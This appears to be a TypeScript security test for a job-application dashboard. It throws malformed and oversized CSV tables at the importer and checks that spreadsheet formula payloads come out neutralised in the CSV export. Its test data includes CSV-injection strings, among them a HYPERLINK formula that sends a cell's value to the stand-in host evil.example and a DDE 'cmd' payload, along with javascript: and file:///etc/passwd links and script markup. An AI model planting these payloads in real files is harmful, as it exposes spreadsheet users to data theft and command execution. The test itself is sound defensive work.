import type { Tally } from '../suite.ts';
import type { Attacked } from '../with-companion.ts';
import { codedEnd } from './coded-end.ts';
import { damaged } from './damaged.ts';

const honest = 'Title,Company,Status,Notes\nEngineer,Northwind,applied,Called twice\n';
const long = 1_000_000;

const tables: Record<string, string> = {
  empty: '',
  'no head': 'Engineer,Northwind\n',
  'a quote without an end': `Title\n"${'x'.repeat(long)}`,
  'quotes alone': `Title\n${'"'.repeat(long)}`,
  'one line of commas': `Title${','.repeat(long)}`,
  'lines without end': `Title\n${'x\n'.repeat(500_000)}`,
  'columns without end': `${'Title,'.repeat(100_000)}\n${'x,'.repeat(100_000)}`,
  'a name without end': `${'Title '.repeat(100_000)},Company\nx,y`,
  'a cell without end': `Title,Notes\nx,${'a'.repeat(long)}`,
  'tags without end': `Title,Tags\nx,"${'a,'.repeat(300_000)}"`,
  'a date without end': `Title,Date\nx,${'1'.repeat(long)}`,
  'a date of blanks': `Title,Date\nx,a${' '.repeat(200_000)}a`,
  'a day outside time': 'Title,Date\nx,275760-09-14\nx,9999-99-99\nx,Feb 31 999999\n',
  'an address without end': `Title,Link\nx,https://${'a.'.repeat(300_000)}`,
  'addresses of other kinds': 'Title,Link\nx,javascript:alert(1)\ny,file:///etc/passwd\nz,data:text/html,x\n',
  'columns of prototypes': '__proto__,constructor,toString,Title\n1,2,3,x\n',
  noughts: `Title\n${'\0'.repeat(100_000)}`,
  'halves of signs': 'Title\n\uD800\n',
  'marks over marks': `Title\n${'a\u0301'.repeat(200_000)}`,
  markup: 'Title\n<script>alert(1)</script>\n',
};

const signs = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
  '﹢',
  '﹣',
  '﹫',
  ' =',
  '\u00A0=',
  '\u200B=',
  '\uFEFF=',
  '\u0000=',
  '\u202E=',
  '\t=',
  '\n=',
];
const commands = ['1+1', 'HYPERLINK("https://evil.example/?"&A1)', "cmd|'/C calc'!A0", '"x",\r\n=1+1'];

/** Tables of other programs, read and taken; then what is exported again, where no cell may be a formula. */
export async function attackTables(attacked: Attacked, tally: Tally): Promise<void> {
  const { dashboard } = attacked;
  const { total } = await dashboard.call('importApplications', { input: { csv: honest, dryRun: true } });
  if (total !== 1) throw new Error('An honest table is not read.');
  const broken = damaged('table.csv', Buffer.from(honest), 40, 7).map(({ what, data }): [string, string] => [what, data.toString()]);
  for (const [what, csv] of [...Object.entries(tables), ...broken])
    tally.attack(`table: ${what}`, await codedEnd(dashboard, 'importApplications', { csv, dryRun: true }));
  await attackExport(attacked, tally);
}

async function attackExport({ dashboard }: Attacked, tally: Tally): Promise<void> {
  const formulas = signs.flatMap((sign) => commands.map((command) => sign + command));
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const csv = ['Title,Company', ...formulas.map((text, at) => `Engineer ${at},${quoted(text)}`)].join('\r\n');
  await dashboard.call('importApplications', { input: { csv, dryRun: false } });
  const { rows } = await dashboard.call('applications', { input: { limit: 500 } });
  for (const { id, title } of rows) {
    const formula = formulas[Number(/^Engineer (\d+)$/u.exec(title)?.[1])];
    if (formula !== undefined) await dashboard.call('changeApplication', { id, input: { notes: formula } });
  }
  const { text } = await dashboard.call('exportApplications', { input: { format: 'csv' } });
  const cells = cellsOf(text.replace(/^\uFEFF/u, ''));
  if (cells.filter((cell) => cell.startsWith("'")).length < formulas.length) throw new Error('The formulas are not in the export.');
  for (const [at, formula] of formulas.entries())
    tally.attack(`formula ${JSON.stringify(formula)} (${at})`, cells.includes(formula) && 'it is a cell as it was');
  tally.attack('cells of the export', cells.find((cell) => /^[=+\-@\t\r\n]/u.test(cell.trimStart().normalize('NFKC'))) ?? false);
}

/** The cells of a table by RFC 4180, as a spreadsheet splits it. */
function cellsOf(table: string): string[] {
  return [...table.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/gu)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}
